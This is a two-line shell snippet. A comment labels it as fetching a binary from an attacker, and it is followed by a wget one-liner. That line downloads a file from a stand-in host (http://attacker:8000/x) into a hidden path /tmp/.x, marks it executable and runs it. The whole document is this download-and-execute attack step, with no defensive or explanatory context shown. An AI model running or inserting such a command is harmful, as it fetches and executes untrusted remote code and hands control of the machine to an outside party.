# A binary fetched from the attacker, made executable and run.
wget -q -O /tmp/.x http://attacker:8000/x && chmod +x /tmp/.x && /tmp/.x
